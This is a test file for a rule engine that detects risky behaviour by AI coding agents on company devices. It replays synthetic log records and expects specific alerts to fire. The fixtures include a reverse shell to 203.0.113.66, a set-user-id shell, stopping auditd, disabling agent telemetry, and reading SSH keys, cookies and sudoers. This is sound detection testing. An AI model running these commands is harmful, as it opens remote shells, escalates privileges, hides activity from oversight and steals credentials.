import { expect, test } from 'vitest'
import { compileDetector } from '../../src/detectors/detector.ts'
import { ordinaryDay } from '../kits/benign-day/day.ts'
import {
  auditOfPerson,
  brokerEvent,
  claudeEvent,
  intuneDevice,
  oktaEvent,
  type Person,
  squidTunnel,
  zeekFlow,
} from '../kits/benign-day/records.ts'
import { replayDay } from '../kits/benign-day/replay.ts'
import { type Delivery, recordedSession } from '../kits/benign-day/session.ts'
import { alertingRules, shippedRules } from './rules-page.ts'

/**
 * What goes wrong, in the vendors' own records: through normaliser, context and privacy, as they come. The tests in the rule files have
 * the events that these make; here it shows that they do.
 */
const rules = shippedRules()
const detector = compileDetector(rules)
const NOON = Date.UTC(2026, 10, 17, 12)
const { people } = ordinaryDay({ people: 3, seed: 1, start: NOON })
const [developer, officeWorker, coder] = people as [Person, Person, Person]
const SESSION = '7c1f0000-0000-4000-8000-000000000001'

const lineOf = (at: number, source: string, record: object): Delivery => ({ at, source, body: JSON.stringify(record) })
const use = (at: number, person: Person, facts: Readonly<Record<string, unknown>>) =>
  brokerEvent(at, person, 'token.used', { token_id: 'cap-1', op: 'read', path: '/srv/share/finance/q3.xlsx', ...facts })
/** What Claude has told: its numbers leave none out. */
let told = 0
const tells = (at: number, person: Person, name: string, attributes: Readonly<Record<string, string | number>>, session = SESSION) =>
  claudeEvent(at, person, session, ++told, name, attributes)
const ran = (at: number, person: Person, command: string) =>
  tells(at, person, 'tool_result', {
    tool_name: 'Bash',
    success: 'true',
    tool_input: JSON.stringify({ command }),
    tool_parameters: JSON.stringify({ full_command: command }),
  })
const read = (at: number, person: Person, file_path: string) =>
  tells(at, person, 'tool_result', { tool_name: 'Read', success: 'true', tool_input: JSON.stringify({ file_path }) })
const unfit = (at: number, person: Person, change: object): Delivery => {
  const device = intuneDevice(at, person)
  return { ...device, body: JSON.stringify({ ...(JSON.parse(device.body) as object), ...change }) }
}

/** The agent's shell in the recorded session, doing something else. */
function descendant(person: Person, serial: number, edit: (lines: readonly string[]) => readonly string[]): readonly Delivery[] {
  const recorded = recordedSession(person.device, NOON, 0, SESSION)
  const stamp = /msg=audit\(([\d.]+):(\d+)\)/
  const lines = recorded[0]!.body.split('\n')
  const shell = lines.find((line) => line.includes('SYSCALL=execve') && line.includes('exe="/usr/bin/bash"'))!
  const own = lines.filter((line) => stamp.exec(line)?.[2] === stamp.exec(shell)![2] && !line.includes('type=PATH'))
  const at = NOON + 60_000
  const moved = edit(own).map((line) => line.replace(stamp, `msg=audit(${(at / 1_000).toFixed(3)}:${serial})`))
  return [...recorded, { at, source: 'linux.auditd', body: moved.join('\n') }]
}
const runs = (person: Person, serial: number, ...args: readonly string[]) =>
  descendant(person, serial, (lines) =>
    lines.map((line) =>
      line.includes('type=EXECVE')
        ? line.replace(
            /argc=.*/,
            `argc=${args.length} ${args.map((word, at) => `a${at}=${Buffer.from(word).toString('hex').toUpperCase()}`).join(' ')}`,
          )
        : line,
    ),
  )
const opens = (person: Person, serial: number, path: string, flags = '0') =>
  descendant(person, serial, (lines) => [
    ...lines
      .filter((line) => line.includes('type=SYSCALL'))
      .map((line) =>
        line
          .replace('syscall=59', 'syscall=257')
          .replace('SYSCALL=execve', 'SYSCALL=openat')
          .replace(/ a2=\w+/, ` a2=${flags}`)
          .replace(/exe="[^"]*"/, 'exe="/usr/bin/cat"'),
      ),
    ...lines.filter((line) => line.includes('type=CWD')),
    `node=${person.device} type=PATH msg=audit(1.0:1): item=0 name="${path}" nametype=NORMAL`,
    ...lines.filter((line) => line.includes('type=PROCTITLE')),
  ])

const BAD: readonly (readonly [what: string, deliveries: readonly Delivery[], fires: readonly string[]])[] = [
  [
    'a token is used on another device',
    [brokerEvent(NOON, officeWorker, 'token.issued', { token_id: 'cap-1' }), use(NOON + 5_000, developer, { decision: 'allow' })],
    ['token_from_another_device'],
  ],
  ['a token is used again', [use(NOON, officeWorker, { decision: 'deny', reason: 'already used' })], ['token_reused']],
  ['a token is used late', [use(NOON, officeWorker, { decision: 'deny', reason: 'expired' })], ['token_expired_use']],
  [
    'a token is used for another folder',
    [use(NOON, officeWorker, { path: '/srv/share/board/x.docx', decision: 'deny', reason: 'out of scope' })],
    ['token_out_of_scope'],
  ],
  [
    'a revoked token is allowed',
    [brokerEvent(NOON, officeWorker, 'token.revoked', { token_id: 'cap-1' }), use(NOON + 5_000, officeWorker, { decision: 'allow' })],
    ['token_allowed_after_its_end'],
  ],
  [
    'a search for open doors',
    Array.from({ length: 10 }, (_, at) => use(NOON + at * 20_000, officeWorker, { path: `/srv/${at}`, decision: 'deny', reason: 'scope' })),
    ['many_token_denials', 'token_out_of_scope'],
  ],
  ['a guarded file without a token', [read(NOON, officeWorker, '/srv/share/projects/plan.docx')], ['agent_restricted_read_without_token']],
  [
    'a sensitive file, then a flow of the device',
    [read(NOON, officeWorker, '/sensitive/payroll.xlsx'), zeekFlow(NOON + 60_000, officeWorker, 'C1', '203.0.113.66', 443, 50_000, 900)],
    ['agent_sensitive_then_device_egress'],
  ],
  [
    'a sensitive file, then a tunnel through the proxy',
    [read(NOON, officeWorker, '/sensitive/payroll.xlsx'), squidTunnel(NOON + 60_000, officeWorker, 'files.example.net', 50_000, 900)],
    ['agent_sensitive_then_device_egress'],
  ],
  [
    'a tool server that nobody knew',
    ['tickets', 'tickets', 'helper'].map((server_name, at) =>
      tells(NOON + at * 4 * 86_400_000, coder, 'mcp_server_connection', { server_name, status: 'connected' }),
    ),
    ['agent_new_mcp_server'],
  ],
  [
    'a network monitor that says nothing any more',
    [zeekFlow(NOON, coder, 'C1', '10.20.0.5', 443, 900, 900), ran(NOON + 3_600_000, coder, 'ls')],
    ['network_sensor_silent'],
  ],
  [
    'what an agent tells has a hole',
    [1, 2, 4, 5].map((number) => claudeEvent(NOON + number * 1_200_000, coder, SESSION, number, 'api_request', { model: 'claude' })),
    ['agent_telemetry_gap'],
  ],
  ['an agent that tells nothing', recordedSession(developer.device, NOON, 0, SESSION).slice(0, 1), ['agent_without_telemetry']],
  [
    'a gigabyte in an hour',
    Array.from({ length: 10 }, (_, at) => zeekFlow(NOON + at * 300_000, officeWorker, `C${at}`, '203.0.113.66', 443, 100_000_000, 900)),
    ['device_egress_volume'],
  ],
  [
    'one sensitive file after the other',
    Array.from({ length: 20 }, (_, at) => read(NOON + at * 20_000, officeWorker, `/sensitive/${at}.xlsx`)),
    ['agent_many_sensitive_reads'],
  ],
  [
    'all permission prompts off',
    [tells(NOON, coder, 'permission_mode_changed', { from_mode: 'default', to_mode: 'bypassPermissions' })],
    ['agent_permission_bypass'],
  ],
  ['a plugin', [tells(NOON, coder, 'plugin_installed', { plugin_name: 'x' })], ['agent_extension_added']],
  ["a reverse shell, by the agent's word", [ran(NOON, coder, 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1')], ['agent_remote_shell']],
  [
    "a reverse shell, by the kernel's",
    runs(developer, 900_000_001, 'bash', '-c', 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'),
    ['agent_remote_shell'],
  ],
  ['sudo', [ran(NOON, coder, 'sudo systemctl restart nginx')], ['agent_privileged_command']],
  ['a set-user-id shell', runs(developer, 900_000_001, 'chmod', 'u+s', '/tmp/bash'), ['agent_privilege_granted']],
  ['a sensor is stopped', runs(developer, 900_000_001, 'systemctl', 'stop', 'auditd'), ['agent_sensor_switched_off']],
  ['a private key', [read(NOON, coder, '/home/ana/.ssh/id_ed25519')], ['agent_credential_file_read']],
  ["a private key, by the kernel's word", opens(developer, 900_000_001, '/home/ana/.ssh/id_ed25519'), ['agent_credential_file_read']],
  ["a browser's cookies", opens(developer, 900_000_001, '/home/ana/.config/google-chrome/Default/Cookies'), ['agent_browser_store_read']],
  ['settings of an agent are written', opens(developer, 900_000_001, '/home/ana/crm/.mcp.json', '241'), ['agent_configuration_written']],
  ['rights are written', opens(developer, 900_000_001, '/etc/sudoers.d/ana', '241'), ['agent_privilege_granted']],
  [
    'an agent without telemetry',
    [auditOfPerson(NOON, developer, 1, ['env', 'CLAUDE_CODE_ENABLE_TELEMETRY=0', 'claude'], '/usr/bin/env')],
    ['agent_telemetry_switched_off'],
  ],
  [
    'an agent from somewhere',
    [auditOfPerson(NOON, developer, 1, ['npm', 'i', '-g', 'http://198.51.100.9/gemini-cli.tgz'], '/usr/bin/node')],
    ['agent_installed_from_unknown_source'],
  ],
  [
    'an agent in the downloads',
    [auditOfPerson(NOON, developer, 1, ['claude'], '/home/ana/Downloads/claude')],
    ['agent_program_in_unknown_place', 'agent_without_telemetry'],
  ],
  [
    'kernel audit is switched off',
    [
      {
        at: NOON,
        source: 'linux.auditd',
        body: `node=${developer.device} type=CONFIG_CHANGE msg=audit(${(NOON / 1_000).toFixed(3)}:77): op=set audit_enabled=0 old=1 auid=1000 ses=3 res=1`,
      },
    ],
    ['kernel_audit_switched_off'],
  ],
  [
    'an agent on a device that is not encrypted',
    [unfit(NOON - 3_600_000, officeWorker, { isEncrypted: false }), tells(NOON, officeWorker, 'user_prompt', { prompt: 'hello' })],
    ['agent_on_unfit_device'],
  ],
  [
    'an agent on a device that does not comply',
    [
      unfit(NOON - 3_600_000, officeWorker, { complianceState: 'noncompliant' }),
      tells(NOON, officeWorker, 'user_prompt', { prompt: 'hello' }),
    ],
    ['agent_on_unfit_device'],
  ],
  [
    'a sign-in from such a device',
    [unfit(NOON - 3_600_000, officeWorker, { isEncrypted: false }), oktaEvent(NOON, officeWorker, 'o-1', 'user.session.start', 'SUCCESS')],
    ['sign_in_on_unfit_device'],
  ],
  [
    'a sign-in with one factor, then an agent',
    [
      lineOf(NOON, 'entra.audit', {
        id: 'e-1',
        createdDateTime: new Date(NOON).toISOString(),
        userId: officeWorker.id,
        userPrincipalName: officeWorker.email,
        appDisplayName: 'Office 365',
        ipAddress: officeWorker.address,
        authenticationRequirement: 'singleFactorAuthentication',
        status: { errorCode: 0 },
      }),
      tells(NOON + 60_000, officeWorker, 'user_prompt', { prompt: 'hello' }),
    ],
    ['agent_without_second_factor', 'sign_in_without_second_factor'],
  ],
  [
    'four customers in a prompt',
    [
      tells(NOON, officeWorker, 'user_prompt', {
        prompt: 'write to ada@example.org, ben@example.org, cleo@example.org and dora@example.org',
      }),
    ],
    ['agent_pii'],
  ],
  [
    'a password in a prompt',
    [tells(NOON, officeWorker, 'user_prompt', { prompt: 'why does postgres://crm:kX9vQ2mZ7@db.corp.example/crm time out' })],
    ['agent_secret'],
  ],
  [
    'one session, two devices',
    [
      ...recordedSession(developer.device, NOON, 0, SESSION).slice(1),
      ...recordedSession(coder.device, NOON + 600_000, 5_000, SESSION).slice(1),
    ],
    ['agent_session_on_two_devices'],
  ],
  [
    'a labelled file',
    [read(NOON, officeWorker, '/srv/share/finance/q3.xlsx'), use(NOON, officeWorker, { decision: 'allow' })],
    ['agent_confidential_read'],
  ],
]

test.each(BAD)('%s', async (_, deliveries, fires) => {
  const { alerts, bad } = await replayDay({ people, deliveries: deliveries.toSorted((one, other) => one.at - other.at) }, detector)
  expect(bad).toEqual([])
  expect([...new Set(alerts.map(({ rule }) => rule.name))].toSorted()).toEqual(fires.toSorted())
})

/** What no record of a source that is read yet can set off, and why. */
const ELSEWHERE = [
  'agent_sensitive_then_unlisted_egress', // ordinary-day.test.ts, and the end-to-end tests
  'agent_mass_file_read', // 200 events, in the rule's own tests
  'agent_egress_at_odd_hours', // the same
  'full_disk_access_granted', // comes as ECS
  'cordon_event_id_reused', // comes from ingest itself
]

test('every rule that alerts has a bad day', () => {
  const fired = new Set(BAD.flatMap(([, , fires]) => fires))
  const silent = alertingRules(rules).filter(({ name }) => !fired.has(name!) && !ELSEWHERE.includes(name!))
  expect(silent.map(({ name }) => name)).toEqual([])
})
